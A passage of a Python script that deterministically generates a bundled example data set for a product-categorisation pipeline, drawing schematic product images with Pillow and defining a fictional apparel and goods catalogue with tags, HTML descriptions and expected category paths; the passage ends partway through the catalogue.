"""Generate the bundled example data set (deterministic; no network).

    .venv/bin/python examples/make_examples.py            # writes into examples/
    .venv/bin/python examples/make_examples.py --out DIR  # writes into DIR instead

Writes:
  images/*.png              schematic product pictures drawn with Pillow (256x256, a few KB each)
  images/not-an-image.png   a text file with a .png name (for bad_events.jsonl)
  images/oversized.png      a 9000x9000 flat PNG: ~10 KB on disk, 81 megapixels decoded
  events.jsonl              valid ProductEvent lines (create / update / delete)
  expected_categories.json  {product_id: full category path in the bundled sample taxonomy}
  bad_events.jsonl          12 deliberately broken lines (written in binary; line 6 is not UTF-8)
  bad_events.md             what is wrong with each bad line and the expected outcome

Everything is derived from SEED, so a rerun gives byte-identical JSON files.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from PIL import Image, ImageChops, ImageDraw

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
if str(ROOT) not in sys.path:  # run as a plain script from anywhere
    sys.path.insert(0, str(ROOT))

SEED = 20240902
SIZE = 256
BACKGROUND = (246, 245, 241)
BASE_TIME = datetime(2024, 9, 2, 8, 0, 0, tzinfo=UTC)
MAIN_SHOP = "shop-demo"
OUTLET_SHOP = "shop-demo-outlet"

# --------------------------------------------------------------------------------------
# Images
# --------------------------------------------------------------------------------------

COLOURS: dict[str, tuple[int, int, int]] = {
    "red": (200, 36, 44),
    "burgundy": (128, 24, 48),
    "navy": (28, 42, 92),
    "black": (30, 30, 32),
    "white": (252, 252, 252),
    "ivory": (240, 234, 214),
    "blue": (48, 104, 200),
    "lightblue": (130, 170, 215),
    "denim": (58, 88, 140),
    "green": (46, 128, 72),
    "olive": (104, 112, 56),
    "teal": (24, 128, 132),
    "pink": (236, 140, 170),
    "gray": (132, 134, 140),
    "beige": (212, 190, 150),
    "brown": (120, 78, 44),
    "tan": (190, 140, 90),
    "gold": (212, 170, 50),
    "rosegold": (222, 150, 130),
    "silver": (190, 194, 200),
    "yellow": (244, 200, 40),
    "orange": (238, 120, 30),
    "purple": (120, 70, 160),
    "amber": (200, 120, 30),
    "multicolor": (230, 80, 60),  # base; shapes that support it draw several colours
}
ACCENTS = [(230, 80, 60), (60, 140, 220), (250, 200, 50), (70, 170, 90), (150, 90, 190)]
DIAMOND = (200, 235, 250)


def _darker(c: tuple[int, int, int], k: float = 0.6) -> tuple[int, int, int]:
    return tuple(int(v * k) for v in c)  # type: ignore[return-value]


def _outline(c: tuple[int, int, int]) -> tuple[int, int, int]:
    # Light items still need a visible edge on the light background.
    return (120, 120, 120) if sum(c) > 600 else _darker(c)


Draw = ImageDraw.ImageDraw
Shape = Callable[[Draw, tuple, tuple], None]


def _dress(d: Draw, f: tuple, o: tuple) -> None:
    d.line([(108, 44), (100, 20)], fill=o, width=5)
    d.line([(148, 44), (156, 20)], fill=o, width=5)
    d.polygon(
        [(104, 44), (128, 70), (152, 44), (162, 112), (206, 226), (50, 226), (94, 112)], fill=f, outline=o, width=3
    )
    d.line([(94, 112), (162, 112)], fill=o, width=3)


def _tshirt(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [
            (88, 40),
            (110, 40),
            (128, 58),
            (146, 40),
            (168, 40),
            (222, 82),
            (200, 110),
            (178, 94),
            (178, 222),
            (78, 222),
            (78, 94),
            (56, 110),
            (34, 82),
        ],
        fill=f,
        outline=o,
        width=3,
    )


def _tank(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [(96, 30), (110, 30), (128, 70), (146, 30), (160, 30), (170, 96), (180, 224), (76, 224), (86, 96)],
        fill=f,
        outline=o,
        width=3,
    )


def _longsleeve(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [
            (88, 40),
            (110, 40),
            (128, 58),
            (146, 40),
            (168, 40),
            (210, 70),
            (234, 204),
            (206, 210),
            (178, 104),
            (178, 222),
            (78, 222),
            (78, 104),
            (50, 210),
            (22, 204),
            (46, 70),
        ],
        fill=f,
        outline=o,
        width=3,
    )


def _hoodie(d: Draw, f: tuple, o: tuple) -> None:
    d.ellipse((92, 14, 164, 84), fill=f, outline=o, width=3)
    _longsleeve(d, f, o)
    d.ellipse((108, 30, 148, 66), fill=_darker(f, 0.8), outline=o, width=2)
    d.rounded_rectangle((100, 160, 156, 200), radius=8, outline=o, width=3)
    d.line([(120, 60), (118, 100)], fill=o, width=2)
    d.line([(136, 60), (138, 100)], fill=o, width=2)


def _jacket(d: Draw, f: tuple, o: tuple) -> None:
    _longsleeve(d, f, o)
    d.line([(128, 58), (128, 222)], fill=o, width=3)
    d.polygon([(110, 40), (128, 58), (114, 84), (98, 48)], fill=_darker(f, 0.85), outline=o)
    d.polygon([(146, 40), (128, 58), (142, 84), (158, 48)], fill=_darker(f, 0.85), outline=o)
    for y in (120, 176):
        d.line([(84, y), (108, y)], fill=o, width=2)
        d.line([(148, y), (172, y)], fill=o, width=2)


def _pants(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [(80, 26), (176, 26), (186, 230), (142, 230), (128, 92), (114, 230), (70, 230)], fill=f, outline=o, width=3
    )
    d.line([(80, 44), (176, 44)], fill=o, width=3)


def _shorts(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [(76, 60), (180, 60), (194, 176), (138, 182), (128, 112), (118, 182), (62, 176)], fill=f, outline=o, width=3
    )
    d.line([(76, 78), (180, 78)], fill=o, width=3)


def _skirt(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon([(96, 46), (160, 46), (204, 212), (52, 212)], fill=f, outline=o, width=3)
    d.line([(96, 62), (160, 62)], fill=o, width=3)
    for x0, x1 in ((112, 96), (128, 128), (144, 160)):
        d.line([(x0, 64), (x1, 210)], fill=o, width=2)


def _swimsuit(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [
            (96, 28),
            (110, 28),
            (128, 76),
            (146, 28),
            (160, 28),
            (168, 120),
            (190, 200),
            (150, 194),
            (128, 170),
            (106, 194),
            (66, 200),
            (88, 120),
        ],
        fill=f,
        outline=o,
        width=3,
    )


def _sneaker(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [(38, 174), (44, 122), (92, 110), (132, 82), (170, 82), (182, 114), (224, 150), (228, 174)],
        fill=f,
        outline=o,
        width=3,
    )
    d.rounded_rectangle((30, 170, 232, 198), radius=10, fill=(250, 250, 250), outline=(110, 110, 110), width=3)
    for i in range(4):
        d.line([(110 + 14 * i, 104 - 4 * i), (122 + 14 * i, 118 - 2 * i)], fill=o, width=3)


def _boot(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon([(78, 28), (150, 28), (152, 146), (214, 164), (224, 200), (74, 200)], fill=f, outline=o, width=3)
    d.rectangle((70, 198, 228, 214), fill=_darker(f, 0.5))
    d.rectangle((74, 214, 112, 226), fill=_darker(f, 0.5))


def _heel(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [(28, 186), (40, 160), (120, 160), (180, 118), (206, 108), (218, 118), (206, 138), (150, 192), (40, 196)],
        fill=f,
        outline=o,
        width=3,
    )
    d.polygon([(196, 128), (210, 124), (204, 224), (198, 224)], fill=_darker(f, 0.6))


def _ring(d: Draw, f: tuple, o: tuple) -> None:
    d.ellipse((64, 92, 192, 220), outline=f, width=18)
    d.ellipse((64, 92, 192, 220), outline=o, width=2)
    d.polygon([(104, 80), (128, 50), (152, 80), (128, 104)], fill=DIAMOND, outline=(120, 150, 170), width=2)


def _band_ring(d: Draw, f: tuple, o: tuple) -> None:
    for i, dy in enumerate((0, 26, 52)):
        d.ellipse((56 + i * 4, 60 + dy, 200 - i * 4, 150 + dy), outline=f, width=12)
        d.ellipse((56 + i * 4, 60 + dy, 200 - i * 4, 150 + dy), outline=o, width=2)


def _necklace(d: Draw, f: tuple, o: tuple) -> None:
    d.arc((48, 10, 208, 190), start=20, end=160, fill=f, width=6)
    d.polygon([(128, 228), (104, 196), (112, 180), (128, 190), (144, 180), (152, 196)], fill=f, outline=o, width=2)


def _pearls(d: Draw, f: tuple, o: tuple) -> None:
    import math

    for i in range(15):
        a = math.radians(20 + i * 10)
        x, y = 128 + 88 * math.cos(a), 100 + 100 * math.sin(a)
        d.ellipse((x - 9, y - 9, x + 9, y + 9), fill=f, outline=o, width=2)


def _hoops(d: Draw, f: tuple, o: tuple) -> None:
    for cx in (80, 176):
        d.ellipse((cx - 44, 70, cx + 44, 200), outline=f, width=10)
        d.ellipse((cx - 44, 70, cx + 44, 200), outline=o, width=2)


def _drops(d: Draw, f: tuple, o: tuple) -> None:
    for cx in (88, 168):
        d.arc((cx - 14, 30, cx + 14, 70), start=180, end=360, fill=o, width=4)
        d.line([(cx, 70), (cx, 130)], fill=f, width=5)
        d.polygon([(cx, 128), (cx + 22, 176), (cx, 214), (cx - 22, 176)], fill=f, outline=o, width=2)


def _watch(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((106, 10, 150, 246), radius=10, fill=f, outline=o, width=3)
    d.ellipse((72, 72, 184, 184), fill=(60, 60, 64))
    d.ellipse((82, 82, 174, 174), fill=(250, 250, 250))
    d.line([(128, 128), (128, 96)], fill=(30, 30, 30), width=5)
    d.line([(128, 128), (152, 140)], fill=(30, 30, 30), width=4)


def _smartwatch(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((102, 10, 154, 246), radius=12, fill=f, outline=o, width=3)
    d.rounded_rectangle((76, 68, 180, 188), radius=22, fill=(40, 40, 44))
    d.rounded_rectangle((86, 78, 170, 178), radius=16, fill=(10, 20, 30))
    d.line([(96, 130), (112, 130), (120, 110), (132, 150), (142, 126), (160, 126)], fill=(90, 220, 120), width=3)


def _cap(d: Draw, f: tuple, o: tuple) -> None:
    d.chord((50, 70, 190, 210), start=180, end=360, fill=f, outline=o, width=3)
    d.polygon([(150, 140), (236, 148), (230, 164), (150, 158)], fill=_darker(f, 0.8), outline=o, width=3)
    d.ellipse((112, 62, 128, 78), fill=_darker(f, 0.8))


def _beanie(d: Draw, f: tuple, o: tuple) -> None:
    d.ellipse((108, 22, 148, 62), fill=(250, 250, 250), outline=(150, 150, 150), width=2)
    d.chord((62, 50, 194, 210), start=180, end=360, fill=f, outline=o, width=3)
    d.rounded_rectangle((56, 124, 200, 176), radius=8, fill=_darker(f, 0.85), outline=o, width=3)
    for x in range(72, 196, 16):
        d.line([(x, 128), (x, 172)], fill=o, width=2)


def _scarf(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [(70, 30), (186, 30), (186, 80), (150, 80), (150, 214), (104, 214), (104, 80), (70, 80)],
        fill=f,
        outline=o,
        width=3,
    )
    for x in range(106, 150, 8):
        d.line([(x, 214), (x, 234)], fill=o, width=3)


def _handbag(d: Draw, f: tuple, o: tuple) -> None:
    d.arc((86, 24, 170, 124), start=180, end=360, fill=o, width=9)
    d.polygon([(60, 80), (196, 80), (218, 214), (38, 214)], fill=f, outline=o, width=3)
    d.line([(60, 104), (196, 104)], fill=o, width=2)


def _crossbody(d: Draw, f: tuple, o: tuple) -> None:
    d.line([(70, 120), (128, 16), (186, 120)], fill=o, width=5)
    d.rounded_rectangle((58, 112, 198, 214), radius=14, fill=f, outline=o, width=3)
    d.polygon([(58, 124), (198, 124), (128, 170)], fill=_darker(f, 0.85), outline=o, width=2)
    d.ellipse((122, 160, 134, 172), fill=(212, 170, 50))


def _wallet(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((40, 70, 216, 190), radius=10, fill=f, outline=o, width=3)
    d.line([(40, 104), (216, 104)], fill=o, width=2)
    d.line([(46, 76), (210, 76)], fill=_darker(f, 0.8), width=1)


def _belt(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((10, 110, 246, 146), radius=6, fill=f, outline=o, width=3)
    d.rectangle((60, 100, 100, 156), outline=(190, 194, 200), width=6)
    for x in range(140, 230, 20):
        d.ellipse((x, 124, x + 8, 132), fill=_darker(f, 0.5))


def _sunglasses(d: Draw, f: tuple, o: tuple) -> None:
    d.line([(30, 100), (226, 100)], fill=f, width=6)
    for x0 in (36, 140):
        d.polygon(
            [(x0, 100), (x0 + 80, 100), (x0 + 72, 160), (x0 + 40, 176), (x0 + 8, 160)],
            fill=(40, 50, 60),
            outline=f,
            width=5,
        )


def _sock(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon(
        [(96, 28), (152, 28), (152, 150), (206, 176), (204, 222), (112, 216), (96, 190)], fill=f, outline=o, width=3
    )
    d.rectangle((96, 28, 152, 56), fill=_darker(f, 0.85), outline=o, width=3)


def _headphones(d: Draw, f: tuple, o: tuple) -> None:
    d.arc((52, 36, 204, 200), start=180, end=360, fill=f, width=16)
    d.rounded_rectangle((36, 112, 84, 200), radius=16, fill=f, outline=o, width=3)
    d.rounded_rectangle((172, 112, 220, 200), radius=16, fill=f, outline=o, width=3)


def _speaker(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((28, 86, 228, 178), radius=44, fill=f, outline=o, width=3)
    for x in range(60, 200, 12):
        d.line([(x, 98), (x, 166)], fill=_darker(f, 0.75), width=3)


def _mug(d: Draw, f: tuple, o: tuple) -> None:
    d.ellipse((148, 96, 214, 170), outline=f, width=14)
    d.rounded_rectangle((56, 64, 172, 214), radius=12, fill=f, outline=o, width=3)
    d.ellipse((56, 56, 172, 76), fill=_darker(f, 0.7), outline=o, width=2)


def _pan(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon([(160, 118), (244, 108), (246, 130), (160, 144)], fill=_darker(f, 0.9), outline=o, width=3)
    d.ellipse((20, 56, 176, 212), fill=f, outline=o, width=4)
    d.ellipse((38, 74, 158, 194), fill=_darker(f, 1.4) if sum(f) < 200 else _darker(f, 0.85))


def _chair(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((82, 24, 174, 118), radius=12, fill=f, outline=o, width=3)
    d.rounded_rectangle((70, 116, 186, 144), radius=6, fill=f, outline=o, width=3)
    for x0, x1 in ((80, 72), (176, 184)):
        d.line([(x0, 144), (x1, 232)], fill=_darker(f, 0.5), width=7)


def _table(d: Draw, f: tuple, o: tuple) -> None:
    d.rectangle((16, 92, 240, 118), fill=f, outline=o, width=3)
    for x in (30, 212):
        d.rectangle((x, 118, x + 14, 226), fill=_darker(f, 0.8), outline=o, width=2)


def _sofa(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((40, 70, 216, 140), radius=14, fill=_darker(f, 0.9), outline=o, width=3)
    d.rounded_rectangle((40, 130, 216, 184), radius=10, fill=f, outline=o, width=3)
    d.line([(128, 134), (128, 182)], fill=o, width=2)
    for x0 in (18, 198):
        d.rounded_rectangle((x0, 100, x0 + 40, 196), radius=12, fill=f, outline=o, width=3)
    for x in (34, 214):
        d.rectangle((x, 196, x + 8, 214), fill=(80, 60, 40))


def _puzzle(d: Draw, f: tuple, o: tuple) -> None:
    cells = [(40, 40), (128, 40), (40, 128), (128, 128)]
    for i, (x, y) in enumerate(cells):
        c = ACCENTS[i % len(ACCENTS)]
        d.rectangle((x, y, x + 86, y + 86), fill=c, outline=(60, 60, 60), width=3)
    for cx, cy in ((126, 83), (83, 126), (171, 126), (126, 171)):
        d.ellipse((cx - 12, cy - 12, cx + 12, cy + 12), fill=ACCENTS[(cx + cy) % 5], outline=(60, 60, 60), width=2)


def _teddy(d: Draw, f: tuple, o: tuple) -> None:
    for box in ((70, 24, 106, 60), (150, 24, 186, 60)):
        d.ellipse(box, fill=f, outline=o, width=3)
    d.ellipse((64, 112, 192, 236), fill=f, outline=o, width=3)
    d.ellipse((80, 30, 176, 126), fill=f, outline=o, width=3)
    d.ellipse((110, 80, 146, 110), fill=_darker(f, 1.3) if sum(f) < 500 else (230, 210, 180))
    for x in (106, 144):
        d.ellipse((x - 5, 62, x + 5, 72), fill=(20, 20, 20))


def _blocks(d: Draw, f: tuple, o: tuple) -> None:
    boxes = [
        (40, 160, 110, 226),
        (112, 160, 182, 226),
        (184, 160, 234, 226),
        (76, 94, 146, 158),
        (148, 94, 210, 158),
        (110, 30, 176, 92),
    ]
    for i, b in enumerate(boxes):
        d.rectangle(b, fill=ACCENTS[i % len(ACCENTS)], outline=(70, 70, 70), width=3)


def _bottle(d: Draw, f: tuple, o: tuple) -> None:
    d.rectangle((110, 24, 146, 66), fill=(250, 250, 250), outline=(120, 120, 120), width=3)
    d.rounded_rectangle((86, 62, 170, 228), radius=18, fill=f, outline=o, width=3)
    d.rectangle((98, 110, 158, 180), fill=(250, 248, 240))


def _jar(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((64, 104, 192, 212), radius=16, fill=f, outline=o, width=3)
    d.rounded_rectangle((58, 70, 198, 108), radius=6, fill=(212, 170, 50), outline=(140, 110, 30), width=3)


def _yogamat(d: Draw, f: tuple, o: tuple) -> None:
    d.rectangle((40, 90, 196, 170), fill=f, outline=o, width=3)
    d.ellipse((176, 90, 216, 170), fill=_darker(f, 0.85), outline=o, width=3)
    d.ellipse((186, 110, 206, 150), outline=o, width=2)
    d.ellipse((20, 90, 60, 170), fill=f, outline=o, width=3)


def _dumbbell(d: Draw, f: tuple, o: tuple) -> None:
    d.rectangle((40, 120, 216, 136), fill=(170, 172, 176), outline=(90, 90, 90), width=2)
    for x0, x1 in ((30, 62), (194, 226), (64, 80), (176, 192)):
        top, bottom = (78, 178) if x1 - x0 > 20 else (96, 160)
        d.polygon(
            [
                (x0 + 6, top),
                (x1 - 6, top),
                (x1, top + 14),
                (x1, bottom - 14),
                (x1 - 6, bottom),
                (x0 + 6, bottom),
                (x0, bottom - 14),
                (x0, top + 14),
            ],
            fill=f,
            outline=o,
            width=2,
        )


def _coffee(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon([(70, 40), (186, 40), (198, 228), (58, 228)], fill=f, outline=o, width=3)
    d.line([(72, 62), (184, 62)], fill=o, width=3)
    d.ellipse((104, 110, 152, 170), fill=(60, 36, 20))
    d.arc((110, 112, 146, 168), start=260, end=460, fill=(120, 80, 50), width=3)


def _teabox(d: Draw, f: tuple, o: tuple) -> None:
    d.rectangle((56, 60, 200, 220), fill=f, outline=o, width=3)
    d.polygon(
        [(56, 60), (86, 36), (230, 36), (200, 60)], fill=_darker(f, 1.2) if max(f) < 200 else f, outline=o, width=3
    )
    d.ellipse((100, 110, 156, 170), fill=(250, 250, 240))
    d.line([(108, 162), (150, 116)], fill=f, width=3)


def _suitcase(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((108, 20, 148, 50), radius=6, outline=(80, 80, 80), width=6)
    d.rounded_rectangle((62, 46, 194, 216), radius=16, fill=f, outline=o, width=3)
    for x in (94, 128, 162):
        d.line([(x, 54), (x, 208)], fill=_darker(f, 0.8), width=4)
    for x in (76, 166):
        d.ellipse((x, 214, x + 16, 230), fill=(40, 40, 40))


def _backpack(d: Draw, f: tuple, o: tuple) -> None:
    d.arc((104, 16, 152, 64), start=180, end=360, fill=o, width=6)
    d.rounded_rectangle((64, 40, 192, 228), radius=40, fill=f, outline=o, width=3)
    d.rounded_rectangle((86, 140, 170, 212), radius=14, fill=_darker(f, 0.85), outline=o, width=3)
    d.line([(90, 140), (166, 140)], fill=(200, 200, 200), width=2)


def _bone(d: Draw, f: tuple, o: tuple) -> None:
    for cx, cy in ((56, 104), (56, 152), (200, 104), (200, 152)):
        d.ellipse((cx - 28, cy - 28, cx + 28, cy + 28), fill=f, outline=o, width=3)
    d.rectangle((56, 100, 200, 156), fill=f)
    d.line([(60, 100), (196, 100)], fill=o, width=3)
    d.line([(60, 156), (196, 156)], fill=o, width=3)


def _notebook(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((62, 24, 202, 232), radius=6, fill=f, outline=o, width=3)
    d.rectangle((176, 24, 186, 232), fill=_darker(f, 0.6))
    for y in range(40, 224, 18):
        d.ellipse((52, y, 72, y + 10), outline=(120, 120, 120), width=3)


def _pen(d: Draw, f: tuple, o: tuple) -> None:
    d.polygon([(70, 214), (200, 62), (216, 76), (86, 228)], fill=f, outline=o, width=3)
    d.polygon([(70, 214), (86, 228), (52, 242)], fill=(230, 220, 200), outline=o, width=2)
    d.line([(190, 60), (170, 110)], fill=(190, 194, 200), width=5)


def _pillow(d: Draw, f: tuple, o: tuple) -> None:
    d.rounded_rectangle((34, 54, 222, 206), radius=34, fill=f, outline=o, width=3)
    for x in range(70, 200, 30):
        for y in range(84, 190, 30):
            d.ellipse((x - 4, y - 4, x + 4, y + 4), fill=_darker(f, 0.8))


SHAPES: dict[str, Shape] = {
    name[1:]: fn
    for name, fn in globals().items()
    if name.startswith("_")
    and callable(fn)
    and name not in ("_darker", "_outline")
    and getattr(fn, "__module__", None) == __name__
}


def _pattern_layer(kind: str, base: tuple[int, int, int]) -> Image.Image:
    layer = Image.new("RGB", (SIZE, SIZE), base)
    d = ImageDraw.Draw(layer)
    light = (250, 250, 250) if sum(base) < 600 else (200, 60, 80)
    if kind == "floral":
        for y in range(12, SIZE, 30):
            for x in range(12 + (y // 30 % 2) * 15, SIZE, 30):
                for dx, dy in ((0, -5), (5, 0), (0, 5), (-5, 0)):
                    d.ellipse((x + dx - 4, y + dy - 4, x + dx + 4, y + dy + 4), fill=light)
                d.ellipse((x - 2, y - 2, x + 2, y + 2), fill=(244, 200, 40))
    elif kind == "plaid":
        dark = _darker(base, 0.55)
        for v in range(0, SIZE, 32):
            d.rectangle((v, 0, v + 8, SIZE), fill=dark)
            d.rectangle((0, v, SIZE, v + 8), fill=dark)
            d.line([(v + 20, 0), (v + 20, SIZE)], fill=light, width=1)
            d.line([(0, v + 20), (SIZE, v + 20)], fill=light, width=1)
    elif kind == "stripes":
        for y in range(0, SIZE, 20):
            d.rectangle((0, y, SIZE, y + 8), fill=light)
    elif kind == "dots":
        for y in range(8, SIZE, 18):
            for x in range(8, SIZE, 18):
                d.ellipse((x - 3, y - 3, x + 3, y + 3), fill=light)
    else:
        raise ValueError(f"unknown pattern {kind}")
    return layer


def render(shape: str, colour: str, pattern: str | None = None) -> Image.Image:
    fill = COLOURS[colour]
    img = Image.new("RGB", (SIZE, SIZE), BACKGROUND)
    SHAPES[shape](ImageDraw.Draw(img), fill, _outline(fill))
    if pattern:
        # Flat drawing (no anti-aliasing) means the body is exactly `fill`: pattern it there.
        diff = ImageChops.difference(img, Image.new("RGB", img.size, fill)).convert("L")
        mask = diff.point(lambda v: 255 if v == 0 else 0)
        img = Image.composite(_pattern_layer(pattern, fill), img, mask)
    return img.quantize(colors=32, method=Image.Quantize.MEDIANCUT, dither=Image.Dither.NONE)


def image_name(shape: str, colour: str, pattern: str | None = None) -> str:
    return f"images/{shape}-{colour}{'-' + pattern if pattern else ''}.png"


# --------------------------------------------------------------------------------------
# Product catalogue
# --------------------------------------------------------------------------------------

SHIPPING = [
    "<p><strong>Free shipping</strong> on orders over $50. Orders placed before 2&nbsp;pm ship the same business day.</p>",
    "<p>Free standard shipping on orders over $50 (US only). Express delivery available at checkout.</p>",
    "<p><em>Ships in 1&ndash;3 business days</em> from our warehouse in Portland, OR.</p>",
]
RETURNS = [
    "<p>30-day returns: not in love? Send it back unworn with tags attached for a full refund.</p>",
    "<p><strong>Easy returns</strong> &ndash; 30-day returns and free exchanges on all full-price items.</p>",
    "<p>Returns accepted within 30 days of delivery. Final-sale items cannot be returned.</p>",
]
CARE = {
    "machine": "<p><strong>Care instructions:</strong> Machine wash cold with like colours, tumble dry low. Do not bleach.</p>",
    "hand": "<p><strong>Care instructions:</strong> Hand wash cold, lay flat to dry. Do not tumble dry.</p>",
    "dry": "<p>Care instructions: Dry clean only.</p>",
    "wipe": "<p>Care: wipe clean with a damp cloth. Store in the pouch provided.</p>",
}
SIZES = ("XS", "S", "M", "L", "XL")


def html(intro: str, bullets: list[str] = (), extra: str = "") -> str:  # type: ignore[assignment]
    out = f"<p>{intro}</p>"
    if bullets:
        out += "<ul>" + "".join(f"<li>{b}</li>" for b in bullets) + "</ul>"
    return out + extra


# Each spec: product_id suffix is assigned in order. Fields:
#   cat: expected full category path; img: list of (shape, colour[, pattern]) to draw and reference
#   care: key into CARE (apparel) or None; boiler: whether shipping/returns may be appended
CATALOGUE: list[dict[str, Any]] = [
    # ---------------------------------------------------------------- dresses
    dict(
        title="Women's V-Neck Wrap Midi Dress - Red",
        cat="Apparel & Accessories > Clothing > Dresses",
        product_type="Dresses",
        vendor="Maple & Thread",
        tags=["women", "dresses", "wrap dress", "red", "new arrival"],
        options=[("Size", SIZES), ("Color", ("Red", "Navy"))],
        price=89.0,
        desc=html(
            "A flattering wrap silhouette with a deep V-neck, short flutter sleeves and a tie waist. "
            "Falls to a graceful midi length.",
            ["100% rayon crepe", "Short sleeves", "Self-tie belt at the waist", "Model is 5'9\" and wears size S"],
        ),
        care="hand",
        img=[("dress", "red"), ("dress", "navy")],
    ),
    dict(
        title="Floral Sleeveless Maxi Sundress",
        cat="Apparel & Accessories > Clothing > Dresses",
        product_type="Dress",
        vendor="Maple & Thread",
        tags="women, summer, floral, maxi, dresses",
        options=[("Size", SIZES)],
        price=72.5,
        desc=html(
            "Breezy and romantic: a <strong>sleeveless</strong> maxi dress in a blue floral print with a square neckline "
            "and smocked back.",
            ["100% cotton voile, fully lined", "Adjustable straps", "Side seam pockets"],
        ),
        care="machine",
        img=[("dress", "blue", "floral")],
    ),
    dict(
        title="Little Black Dress - Long Sleeve Crew Neck Mini",
        cat="Apparel & Accessories > Clothing > Dresses",
        product_type="Dresses",
        vendor="Noir Atelier",
        tags=["LBD", "women", "party", "black"],
        options=[("Size", ("XS", "S", "M", "L"))],
        price=64.0,
        desc=html(
            "The little black dress, perfected. Long sleeves, a clean crew neckline and a mini hemline that hits mid-thigh.",
            ["95% polyester, 5% elastane", "Concealed back zip", "Stretch fit"],
        ),
        care="machine",
        img=[("dress", "black")],
    ),
    dict(
        title="Linen Square-Neck Midi Dress in Sand",
        cat="Apparel & Accessories > Clothing > Dresses",
        product_type="Dresses",
        vendor="Coastline Linen Co.",
        tags=["linen", "women", "beige", "vacation"],
        options=[("Size", SIZES)],
        price=98.0,
        desc=html(
            "Washed European linen in a warm sand (beige) tone. Square neckline, cap sleeves and a relaxed A-line skirt to mid-calf.",
            ["100% linen", "Cap sleeves", 'Midi length, 47" from shoulder'],
        ),
        care="machine",
        img=[("dress", "beige")],
    ),
    dict(
        title="Sweetheart Satin Wedding Gown",
        cat="Apparel & Accessories > Clothing > Wedding & Bridal Party Dresses > Wedding Dresses",
        product_type="Bridal",
        vendor="Belle Bridal",
        tags=["bridal", "wedding dress", "ivory", "strapless"],
        options=[("Size", ("2", "4", "6", "8", "10", "12"))],
        price=1250.0,
        desc=html(
            "A timeless <em>strapless</em> ballgown with a sweetheart neckline, structured satin bodice and a sweeping floor-length maxi skirt with chapel train.",
            ["Duchess satin (polyester)", "Corset lace-up back", "Colour: ivory / white"],
            "<p>Made to order &ndash; please allow 12&ndash;16 weeks. Alterations not included.</p>",
        ),
        care="dry",
        img=[("dress", "ivory")],
    ),
    # ---------------------------------------------------------------- tops
    dict(
        title="Men's Classic Crew Neck Tee - 100% Cotton",
        cat="Apparel & Accessories > Clothing > Clothing Tops > T-Shirts",
        product_type="T-Shirts",
        vendor="Northline Outfitters",
        tags=["men", "basics", "t-shirt", "cotton"],
        options=[("Size", ("S", "M", "L", "XL", "XXL")), ("Color", ("White", "Black", "Heather Gray"))],
        price=24.0,
        desc=html(
            "Our everyday men's tee in heavyweight 100% cotton jersey. Crew neck, short sleeves, a regular fit that holds its shape wash after wash.",
            ["100% combed ring-spun cotton, 180 gsm", "Short sleeve", "Pre-shrunk"],
        ),
        care="machine",
        img=[("tshirt", "white")],
    ),
    dict(
        title="Women's V-Neck Organic Cotton Tee",
        cat="Apparel & Accessories > Clothing > Clothing Tops > T-Shirts",
        product_type="Tops",
        vendor="Maple & Thread",
        tags=["women", "organic", "tees", "pink"],
        options=[("Size", SIZES), ("Color", ("Blush Pink",))],
        price=28.0,
        desc=html(
            "A soft, slightly slouchy V-neck tee for women in GOTS-certified organic cotton. Colour: blush pink.",
            ["100% organic cotton", "Short sleeves with rolled cuff", "Relaxed fit"],
        ),
        care="machine",
        img=[("tshirt", "pink")],
    ),
    dict(
        title="Men's Dri-Tech Running Tee",
        cat="Apparel & Accessories > Clothing > Activewear > Activewear Tops > T-Shirts",
        product_type="Activewear",
        vendor="Stride Athletics",
        tags=["running", "men", "activewear", "moisture-wicking"],
        options=[("Size", ("S", "M", "L", "XL")), ("Color", ("Charcoal Gray", "Electric Blue"))],
        price=35.0,
        desc=html(
            "Built for running: a lightweight, <strong>moisture-wicking</strong> and quick-drying performance tee with flatlock seams.",
            ["100% recycled polyester mesh", "Short sleeve, crew neck", "Reflective logo for low-light runs"],
        ),
        care="machine",
        img=[("tshirt", "gray"), ("tshirt", "blue")],
    ),
    dict(
        title="Ribbed Racerback Tank Top",
        cat="Apparel & Accessories > Clothing > Clothing Tops > Tank Tops",
        product_type="Tops",
        vendor="Noir Atelier",
        tags=["women", "tank", "basics", "black"],
        options=[("Size", ("XS", "S", "M", "L")), ("Color", ("Black",))],
        price=19.0,
        desc=html(
            "A fitted, sleeveless rib-knit tank with a racerback and a scoop (round) neckline. Layer it or wear it solo.",
            ["92% cotton, 8% spandex", "Sleeveless", "Cropped length"],
        ),
        care="machine",
        img=[("tank", "black")],
    ),
    dict(
        title="Silk Button-Front Blouse, Long Sleeve",
        cat="Apparel & Accessories > Clothing > Clothing Tops > Blouses",
        product_type="Blouses",
        vendor="Noir Atelier",
        tags=["women", "silk", "workwear", "ivory"],
        options=[("Size", SIZES), ("Color", ("Ivory",))],
        price=145.0,
        desc=html(
